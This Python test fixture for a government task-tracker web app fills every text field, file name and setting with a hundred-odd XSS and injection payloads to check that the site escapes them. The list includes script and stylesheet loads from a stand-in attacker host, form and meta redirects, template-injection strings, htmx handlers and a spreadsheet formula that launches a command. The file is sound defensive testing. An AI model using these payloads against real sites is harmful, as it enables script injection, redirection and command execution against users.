"""A site whose every text was written by somebody who wants a script to run; and the hundred things they write."""

from dataclasses import replace
from io import BytesIO
from itertools import product
from pathlib import Path

from tests.integration.web.a_site import (
    KEY,
    NOW,
    Site,
    a_site,
    an_office_at_work,
    the_directive,
    the_second,
)
from tests.simulation.an_office import the_registry
from tracker.domain.agency import Registry
from tracker.domain.directive import Directive
from tracker.domain.evidence import Proof
from tracker.domain.text import Text
from tracker.operations import send_back, submit
from tracker.operations.deputies import name_deputy
from tracker.operations.evidence import EvidenceFolder, add_evidence
from tracker.web.app import create_app

_ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart")
_WAYS_OUT = ("", '">', "'>", "</a>", "</script>", "</title>", "</textarea>", "]]>", "-->")
_OTHERS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "\"onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus '", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>", "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{7*7}}", "{% raw %}", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<x hx-get=/ hx-trigger=load hx-on::load=alert(1)>",
    "<div data-hx-on:click=alert(1) hx-get=/tasks hx-trigger=load>x</div>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<style>@import'//evil.example';</style>", "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "=cmd|' /C calc'!A0", "`-alert(1)-`",
)  # fmt: skip
_MADE = tuple(
    f"{out}<{element} {handler}=alert(1)>" for out, element, handler in product(_WAYS_OUT, _ELEMENTS, _HANDLERS)
)
# what swallows the rest of a page comes last
_LAST = ("<textarea><script>alert(1)</script>", "<!--<script>alert(1)</script>")
PAYLOADS = (*(*_OTHERS, *_MADE[::5])[:98], *_LAST)
ALL = " ".join(PAYLOADS)
OFFICES = ("BNV", "BTC", "BGDDT", "CP", "VPCP", "01", "04", "22")


def said(words: str) -> str:
    """Return some words with every payload behind them."""
    return f"{words} {ALL}"


def a_hostile_site(folder: Path) -> Site:
    """Return the site of the tests with the payloads in every text that people, files and mail servers write."""
    directives = [_hostile(directive) for directive in (the_directive(), the_second())]
    url = f"sqlite:///{folder}/tracker.db"
    store = an_office_at_work(url, say=said, directives=directives, registry=_registry())
    evidence = EvidenceFolder(folder / "evidence", limit=1024)
    name = f"{PAYLOADS[0]} {_MADE[0]}.pdf".replace("/", "∕")
    added = add_evidence(store, evidence, BytesIO(b"%PDF-1.7\none\n"), name=name, at=NOW, actor="BGDDT:chi")
    schools = f"{KEY}/schools/BGDDT"
    send_back(store, schools, at=NOW, actor="secretariat:le", missing=said("the list"))
    proof = Proof(sha256=added.sha256)
    document = _MADE[0][:70]
    submit(store, schools, at=NOW, actor="BGDDT:chi", words=said("Again."), document=document, proofs=[proof])
    today = NOW.date()
    name_deputy(store, "BNV", "BTC", first=today, last=today, at=NOW, actor="BNV:anna", why=said("Away."))
    site = a_site(folder, store, say=said)
    settings = replace(site.settings, office=said("Office"), contact=said("Contact"))
    return replace(site, settings=settings, app=create_app(store, settings))


def _text(words: str) -> Text:
    return Text(vi=said(words), en=said(words), fr=said(words))


def _hostile(directive: Directive) -> Directive:
    tasks = tuple(
        replace(task, title=_text(task.id), deliverable=said("a paper"), note=said("a note"), due=_due(task.due))
        for task in directive.tasks
    )
    return replace(directive, title=_text("A directive"), tasks=tasks)


def _due(due):  # type: ignore[no-untyped-def]
    return due and replace(due, words=said("some day"))


def _registry() -> Registry:
    registry = the_registry(secretariat="VPCP")
    agencies = {code: replace(agency, name=_text(code)) for code, agency in registry.agencies.items()}
    days = {
        day: replace(special, name=_text("A day"), source=said("a notice"))
        for day, special in registry.calendar.days_off.items()
    }
    return replace(registry, agencies=agencies, calendar=replace(registry.calendar, days_off=days))
